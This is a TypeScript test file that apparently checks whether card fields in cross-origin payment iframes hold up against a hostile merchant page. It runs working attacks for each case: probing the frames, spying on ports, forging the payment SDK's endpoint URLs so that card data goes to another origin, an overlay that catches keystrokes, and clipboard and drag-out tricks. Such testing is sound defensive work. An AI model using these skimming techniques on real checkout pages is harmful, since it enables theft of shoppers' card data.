/**
 * What a merchant's page can do to get at a card that is typed into frames of another
 * origin. Each attack gives what it got hold of, as text.
 *
 * Not among them: pictures. A page cannot draw an iframe of another origin to a canvas,
 * and to capture the screen it needs the shopper's consent in the browser's own dialog.
 */

import { COMMANDS, frameGate } from "./commands.ts";
import { spy } from "./spy.ts";
import { bare, fieldPage, type Kind, type Stage, Victim } from "./victims.ts";

export interface Attack {
  readonly title: string;
  /** Fields on which it succeeds. */
  readonly control: Kind;
  run(kind: Kind, stage: Stage): Promise<string>;
}

export const ATTACKS: readonly Attack[] = [
  { title: "reaches into the frames", control: "sameOrigin", run: reachInto },
  { title: "sees all that passes through its realm", control: "careless", run: watchRealm },
  { title: "connects first, with its own port", control: "careless", run: connectFirst },
  { title: "connects again, from everywhere", control: "careless", run: connectAgain },
  { title: "names another address to send to", control: "careless", run: redirect },
  { title: "listens for keys through an overlay", control: "plain", run: overlay },
  { title: "selects, finds and copies", control: "plain", run: copy },
  { title: "has the text dragged out", control: "plain", run: dragOut },
];

async function reachInto(kind: Kind, stage: Stage): Promise<string> {
  const victim = await Victim.open(kind, stage);
  await victim.type();
  return await stage.page.evaluate(() => {
    try {
      document.domain = location.hostname;
    } catch {}
    const ways: ((frame: HTMLIFrameElement, index: number) => unknown)[] = [
      (frame) => frame.contentDocument?.querySelector("input")?.value,
      (frame) => frame.contentDocument?.documentElement.outerHTML,
      (frame) => frame.getSVGDocument()?.documentElement.outerHTML,
      (frame) => frame.contentWindow?.document.querySelector("input")?.value,
      (frame) => Reflect.get(frame.contentWindow ?? {}, "tenderField").text(),
      (frame) => Reflect.get(frame.contentWindow ?? {}, "eval")("document.forms[0][0].value"),
      (frame) => String(frame.contentWindow?.getSelection()),
      (frame) => frame.contentWindow?.name,
      (frame) => frame.contentWindow?.location.href,
      (frame) => frame.contentWindow?.history.state,
      (frame) => frame.contentWindow?.localStorage.length,
      (frame) => JSON.stringify(Object.getOwnPropertyDescriptors(frame.contentWindow)),
      (_, index) => frames[index]?.document.body.innerHTML,
      (_, index) => frames[index]?.document.forms[0]?.querySelector("input")?.value,
      (_, index) => Reflect.get(frames[index] ?? {}, "tenderField")?.text(),
      (_, index) =>
        Object.values(frames[index] ?? {})
          .map(String)
          .join(),
    ];
    for (const [index, frame] of document.querySelectorAll("iframe").entries()) {
      for (const way of ways) {
        try {
          window.loot.push(way(frame, index));
        } catch {}
      }
    }
    window.loot.push(JSON.stringify(performance.getEntries()));
    return window.loot.map(String).join("\n");
  });
}

/** A shopper types and pays under the eyes of a page that has patched what it can. */
async function watchRealm(kind: Kind, stage: Stage): Promise<string> {
  const victim = await Victim.open(kind, stage, `(${spy})();`);
  await victim.type();
  await victim.pay();
  const outcome = await victim.outcome();
  const seen = await stage.page.evaluate(() => window.seen.join("\n"));
  return `${outcome}\n${seen}`;
}

async function connectFirst(kind: Kind, stage: Stage): Promise<string> {
  const victim = await Victim.open(kind, stage, "", bare(fieldPage(kind, stage)));
  await victim.type();
  return await stage.page.evaluate(askPorts, COMMANDS);
}

async function connectAgain(kind: Kind, stage: Stage): Promise<string> {
  const victim = await Victim.open(kind, stage);
  const { page, elsewhere, site } = stage;
  const gates = [elsewhere, site].map((owner) =>
    owner.add("/gate", `<script>(${frameGate})()</script>`),
  );
  await page.evaluate(frameGate);
  for (const gate of gates) {
    const loaded = page.waitForEvent("framenavigated", (frame) => frame.url() === gate);
    await page.evaluate((address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
    }, gate);
    await loaded;
  }
  const worlds = page.frames();
  for (const gate of gates) {
    const opened = page.waitForEvent("popup");
    await page.evaluate((address) => void window.open(address), gate);
    const popup = await opened;
    await popup.waitForURL(gate);
    worlds.push(popup.mainFrame());
  }
  const held = worlds.filter((world) => world === page.mainFrame() || gates.includes(world.url()));
  const connect = async () => {
    for (const world of held) await world.evaluate(() => window.connectAll());
  };
  await connect();
  await victim.type();
  await connect();
  const answers = held.map((world) => world.evaluate(askPorts, COMMANDS));
  return (await Promise.all(answers)).join("\n");
}

/** Says everything to every port that the page holds, and gives what came back. */
async function askPorts(commands: object[]): Promise<string> {
  for (const port of window.ports) {
    for (const command of commands) port.postMessage(command);
  }
  // The answers to what was asked before are there when one that was asked later is.
  const { port1, port2 } = new MessageChannel();
  for (let round = 0; round < 20; round += 1) {
    const back = new Promise((resolve) => {
      port1.onmessage = resolve;
    });
    port2.postMessage(round);
    await back;
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }
  return JSON.stringify(window.loot);
}

/** The page changes what the server tells the SDK, so that everything goes elsewhere. */
async function redirect(kind: Kind, stage: Stage): Promise<string> {
  const sink = stage.elsewhere.add("/sink", "{}");
  const stolen: string[] = [];
  stage.page.context().on("request", (request) => {
    const isStolen = request.url().startsWith(stage.elsewhere.origin);
    if (isStolen) stolen.push(`${request.url()} ${request.postData()}`);
  });
  const victim = await Victim.open(kind, stage, `(${forgeAddresses})(${JSON.stringify(sink)});`);
  await victim.type();
  // After the card was sent to wherever it was sent, as the token is needed for it.
  const sent = kind === "tender" ? `${sink}/payments` : sink;
  const arrived = stage.page.waitForRequest((request) => request.url().startsWith(sent));
  await stage.page.evaluate(() => void window.pay());
  await arrived;
  return stolen.join("\n");
}

function forgeAddresses(sink: string): void {
  Object.assign(window, { address: sink });
  const names = ["pciUrl", "coreUrl", "binDataUrl", "assetsUrl"];
  // biome-ignore lint/suspicious/noExplicitAny: whatever JSON holds
  const forge = (answer: any) => {
    for (const name of names) if (answer && name in answer) answer[name] = sink;
    return answer;
  };
  const { parse } = JSON;
  JSON.parse = (text, reviver) => forge(parse(text, reviver));
  const { json } = Response.prototype;
  Response.prototype.json = async function forged() {
    return forge(await json.call(this));
  };
}

/** Keys go to what has the focus; the page lies above it and listens for all of them. */
async function overlay(kind: Kind, stage: Stage): Promise<string> {
  const victim = await Victim.open(kind, stage, `(${spy})();`);
  await stage.page.evaluate(() => {
    const cover = document.createElement("div");
    cover.contentEditable = "true";
    cover.style.cssText = "position: fixed; inset: 0; z-index: 9999; pointer-events: none";
    document.body.append(cover);
  });
  await victim.type();
  const number = victim.input("cardNumber");
  await number.click();
  await number.press("ControlOrMeta+A");
  await number.press("ControlOrMeta+C");
  await number.press("ControlOrMeta+V");
  return await stage.page.evaluate(() => window.seen.join("\n"));
}

async function copy(kind: Kind, stage: Stage): Promise<string> {
  await stage.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  const victim = await Victim.open(kind, stage);
  await victim.type();
  // The clipboard is the browser's, which runs other tests as well.
  await stage.page.evaluate(() => navigator.clipboard.writeText("nothing"));
  for (const field of ["cardNumber", "cvv"] as const) {
    await victim.input(field).click();
    await victim.input(field).press("ControlOrMeta+A");
    await stage.page.evaluate(copySelection);
  }
  return await stage.page.evaluate(() => window.loot.join("\n"));
}

async function copySelection(): Promise<void> {
  const { loot } = window;
  const number = "2222 6904 2";
  const found = Reflect.get(window, "find").call(window, number, false, false, true, false, true);
  if (found) loot.push(number);
  document.addEventListener("copy", (event) => loot.push(`${event.target && getSelection()}`));
  document.execCommand("copy");
  loot.push(await navigator.clipboard.readText().catch(() => ""));
  document.execCommand("selectAll");
  document.execCommand("copy");
  loot.push(await navigator.clipboard.readText().catch(() => ""));
  loot.push(`${getSelection()}`);
  for (const element of document.querySelectorAll("iframe, input")) {
    const { left, top } = element.getBoundingClientRect();
    const caret = document.caretRangeFromPoint(left + 5, top + 10);
    loot.push(caret?.startContainer.textContent, Reflect.get(element, "value"));
  }
}

/** A page can make a shopper drag: as in a game, with the field under the pointer. */
async function dragOut(kind: Kind, stage: Stage): Promise<string> {
  const victim = await Victim.open(kind, stage);
  const { page } = stage;
  await victim.type();
  await page.evaluate(() => {
    for (const type of ["dragenter", "dragover", "drop"]) {
      document.addEventListener(type, (event) => {
        event.preventDefault();
        window.loot.push((event as DragEvent).dataTransfer?.getData("text"));
      });
    }
  });
  const number = victim.input("cardNumber");
  await number.click();
  await number.press("ControlOrMeta+A");
  const box = await number.boundingBox();
  const landing = await page.locator("#landing").boundingBox();
  if (!box || !landing) throw new Error("nothing to drag");
  await page.mouse.move(box.x + 20, box.y + 10);
  await page.mouse.down();
  await page.mouse.move(landing.x + 20, landing.y + 5, { steps: 8 });
  await page.mouse.up();
  return await page.evaluate(() => window.loot.join("\n"));
}
